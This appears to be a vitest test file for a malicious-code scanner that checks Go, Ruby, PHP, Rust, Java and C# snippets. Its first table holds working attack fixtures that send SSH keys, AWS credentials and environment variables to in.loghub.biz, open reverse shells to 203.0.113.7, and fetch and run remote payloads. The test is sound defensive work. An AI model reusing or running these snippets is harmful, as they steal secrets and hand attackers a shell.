import { expect, test } from "vitest";
import { found } from "../../../test-support/package-of";

async function worst(path: string, code: string): Promise<string> {
  const findings = await found(path, code);
  return findings[0]?.split(":")[0] ?? "nothing";
}

test.each([
  [
    "a.go",
    'func main() {\n\thome, _ := os.UserHomeDir()\n\tf, err := os.Open(home + "/.aws/credentials")\n\tif err != nil {\n\t\treturn\n\t}\n\tdefer f.Close()\n\treq, _ := http.NewRequest("POST", "https://in.loghub.biz/u", f)\n\tclient := &http.Client{}\n\tclient.Do(req)\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.go",
    'func main() {\n\tm := map[string]string{}\n\tfor _, e := range os.Environ() {\n\t\tp := strings.SplitN(e, "=", 2)\n\t\tm[p[0]] = p[1]\n\t}\n\tb, _ := json.Marshal(m)\n\thttp.Post("https://in.loghub.biz/e", "application/json", bytes.NewBuffer(b))\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.go",
    'func main() {\n\tresp, err := http.Get("http://203.0.113.9/p")\n\tif err != nil {\n\t\treturn\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/.p", b, 0755)\n\texec.Command("/tmp/.p").Start()\n}\n',
    "block evaluated-download",
  ],
  [
    "a.go",
    'func main() {\n\tconn, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tfor {\n\t\tbuf := make([]byte, 1024)\n\t\tn, _ := conn.Read(buf)\n\t\tout, _ := exec.Command("sh", "-c", string(buf[:n])).Output()\n\t\tconn.Write(out)\n\t}\n}\n',
    "block remote-command-execution",
  ],
  [
    "a.go",
    'func main() {\n\tp, _ := base64.StdEncoding.DecodeString("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo")\n\texec.Command("sh", "-c", string(p)).Run()\n}\n',
    "block encoded-remote-code",
  ],
  [
    "a.rb",
    'class Sync\n  def initialize(url)\n    @url = url\n  end\n  def run\n    body = collect\n    Net::HTTP.post(URI(@url), body)\n  end\n  def collect\n    %w[.ssh/id_rsa .netrc].map { |f| File.read(File.join(Dir.home, f)) rescue "" }.join\n  end\nend\nSync.new("https://in.loghub.biz/k").run\n',
    "block secret-exfiltration",
  ],
  [
    "a.rb",
    'require "net/http"\nhttp = Net::HTTP.new("in.loghub.biz", 443)\nreq = Net::HTTP::Post.new("/k")\nreq.body = File.read("#{ENV[\'HOME\']}/.aws/credentials")\nhttp.request(req)\n',
    "block secret-exfiltration",
  ],
  [
    "a.rb",
    'require "socket"\ns = TCPSocket.new("203.0.113.7", 4444)\nwhile (line = s.gets)\n  IO.popen(line, "r") { |io| s.print io.read }\nend\n',
    "block remote-command-execution",
  ],
  [
    "a.rb",
    'require "base64"\neval(Base64.decode64("cHV0cyAxO3B1dHMgMjtwdXRzIDM7cHV0cyA0"))\n',
    "block evaluated-decoded-text",
  ],
  ["a.rb", "code = <<~SH\n  curl -s http://203.0.113.9/x | sh\nSH\nsystem(code)\n", "block remote-code"],
  [
    "a.php",
    "<?php\nclass Report {\n  private $to = 'https://in.loghub.biz/e';\n  function send() {\n    $ch = curl_init($this->to);\n    curl_setopt($ch, CURLOPT_POST, true);\n    curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(getenv()));\n    curl_exec($ch);\n  }\n}\n(new Report())->send();\n",
    "block data-exfiltration",
  ],
  [
    "a.php",
    '<?php\n$code = file_get_contents("https://cdn.tool-stats.dev/u.txt");\neval("?>" . $code);\n',
    "block evaluated-download",
  ],
  ["a.php", '<?php\n$f = "sys" . "tem";\n$f($_REQUEST["q"]);\n', "block remote-command-execution"],
  [
    "a.php",
    '<?php\n$s = fsockopen("203.0.113.7", 4444);\n$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);\n',
    "block socket-shell",
  ],
  [
    "a.rs",
    'use std::fs;\nfn main() -> Result<(), Box<dyn Error>> {\n    let home = dirs::home_dir().unwrap();\n    let key = fs::read_to_string(home.join(".ssh/id_ed25519"))?;\n    let client = reqwest::blocking::Client::new();\n    client.post("https://in.loghub.biz/k").body(key).send()?;\n    Ok(())\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.rs",
    'fn main() {\n    let all: HashMap<String, String> = std::env::vars().collect();\n    let body = serde_json::to_string(&all).unwrap();\n    ureq::post("https://in.loghub.biz/e").send_string(&body);\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.rs",
    'fn main() {\n    let body = match reqwest::blocking::get("http://203.0.113.9/p") {\n        Ok(r) => r.bytes().unwrap(),\n        Err(_) => return,\n    };\n    std::fs::write("/tmp/p", &body).unwrap();\n    Command::new("/tmp/p").spawn().unwrap();\n}\n',
    "block evaluated-download",
  ],
  [
    "a.rs",
    'fn main() {\n    let mut s = TcpStream::connect("203.0.113.7:4444").unwrap();\n    let fd = s.as_raw_fd();\n    Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();\n}\n',
    "block socket-shell",
  ],
  [
    "build.rs",
    'fn main() {\n    Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/x | sh").status().unwrap();\n}\n',
    "block remote-code",
  ],
  [
    "A.java",
    'class A {\n  void run() throws Exception {\n    Socket s = new Socket("203.0.113.7", 4444);\n    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n    InputStream pi = p.getInputStream();\n  }\n}\n',
    "block socket-shell",
  ],
  [
    "A.java",
    'class A {\n  void run(String data) throws Exception {\n    byte[] code = Base64.getDecoder().decode(data);\n    new ScriptEngineManager().getEngineByName("js").eval(new String(code));\n  }\n}\n',
    "block evaluated-decoded-text",
  ],
  [
    "a.cs",
    'class A {\n  static async Task Main() {\n    var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\n    var key = File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));\n    using var http = new HttpClient();\n    await http.PostAsync("https://in.loghub.biz/k", new StringContent(key));\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    var all = JsonSerializer.Serialize(Environment.GetEnvironmentVariables());\n    new WebClient().UploadString("https://in.loghub.biz/e", all);\n  }\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    var bytes = new WebClient().DownloadData("https://in.loghub.biz/p.dll");\n    Assembly.Load(bytes).EntryPoint.Invoke(null, null);\n  }\n}\n',
    "block evaluated-download",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    Process.Start(new ProcessStartInfo { FileName = "powershell", Arguments = "-c iex (iwr http://203.0.113.9/x)" });\n  }\n}\n',
    "block remote-code",
  ],
])("follows %s: %j", async (path, code, finding) => {
  expect(await worst(path, code)).toBe(finding);
});

test.each([
  [
    "a.go",
    'func main() {\n\tkey := os.Getenv("NOTES_API_KEY")\n\tbody, _ := json.Marshal(map[string]string{"text": text})\n\treq, _ := http.NewRequest("POST", "https://api.notes.dev/v1", bytes.NewReader(body))\n\treq.Header.Set("Authorization", "Bearer "+key)\n\thttp.DefaultClient.Do(req)\n}\n',
  ],
  [
    "a.go",
    'func main() {\n\tcmd := exec.Command("git", "log", "--oneline")\n\tcmd.Env = os.Environ()\n\tout, _ := cmd.Output()\n\tfmt.Println(string(out))\n}\n',
  ],
  [
    "a.go",
    'func load() Config {\n\tb, _ := os.ReadFile("config.json")\n\tvar c Config\n\tjson.Unmarshal(b, &c)\n\treturn c\n}\n',
  ],
  [
    "a.go",
    'func serve() {\n\tl, _ := net.Listen("tcp", ":8080")\n\tfor {\n\t\tc, _ := l.Accept()\n\t\tio.Copy(c, c)\n\t}\n}\n',
  ],
  ["a.rb", 'Dir.glob("lib/**/*.rb").each { |f| require File.expand_path(f) }\nputs ENV.fetch("HOME")\n'],
  ["a.rb", 'require "digest"\nputs Digest::SHA256.file(ARGV[0]).hexdigest\n'],
  ["a.rb", 'store = {}\nstore["a"] = File.read("a.txt")\nFile.write("b.txt", store.to_json)\nputs `git status`\n'],
  [
    "a.php",
    "<?php\n$stmt = $pdo->prepare('SELECT * FROM t WHERE id = ?');\n$stmt->execute([$_GET['id']]);\n$db->exec('VACUUM');\n",
  ],
  [
    "a.php",
    "<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$c = json_decode(base64_decode($row['config']), true);\nprint_r(array_map($c['fn'] ?? 'trim', $rows));\n",
  ],
  [
    "a.rs",
    'fn main() {\n    let text = std::fs::read_to_string("Cargo.toml").unwrap();\n    let out = Command::new("cargo").args(["build", "--release"]).output().unwrap();\n    println!("{} {:?}", text.len(), out);\n}\n',
  ],
  [
    "a.rs",
    'fn main() {\n    let token = env::var("NOTES_TOKEN").unwrap();\n    let r = client.get("https://api.notes.dev/v1").bearer_auth(token).send();\n}\n',
  ],
  [
    "A.java",
    'class A {\n  Map<String, String> all = new HashMap<>();\n  void keep() throws Exception {\n    all.put("env", System.getenv("PATH"));\n    for (Path p : Files.list(Paths.get("src")).toList()) all.put(p.toString(), Files.readString(p));\n    new PrintWriter("out.txt").println(all);\n  }\n}\n',
  ],
  [
    "A.java",
    'class A {\n  void build() throws Exception {\n    new ProcessBuilder("mvn", "-q", "package").inheritIO().start().waitFor();\n    log.info(InetAddress.getLocalHost().getHostName());\n  }\n}\n',
  ],
  [
    "a.cs",
    'class A {\n  async Task Run() {\n    var key = Environment.GetEnvironmentVariable("NOTES_KEY");\n    client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key);\n    await client.PostAsync("https://api.notes.dev/v1", new StringContent(text));\n    File.WriteAllText("log.txt", key);\n  }\n}\n',
  ],
  [
    "a.cs",
    'class A {\n  void Run() {\n    var image = Convert.FromBase64String(row.Image);\n    using var s = new MemoryStream(image);\n    Bitmap.FromStream(s).Save("a.png");\n    Process.Start("git", "status");\n  }\n}\n',
  ],
])("leaves alone what %s does honestly: %j", async (path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});

test.each([
  ["a.rs", `fn main() { let ${"&".repeat(60_000)}x = y; }`],
  ["a.go", `func main() { x := ${"f(".repeat(20_000)}${")".repeat(20_000)} }`],
  ["a.rb", `x = ${"[".repeat(20_000)}${"]".repeat(20_000)}`],
  ["a.php", `<?php if (1) { ${"if (1) { ".repeat(10_000)}${"}".repeat(10_001)}`],
])("reads %s, however deep it nests", async (path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});
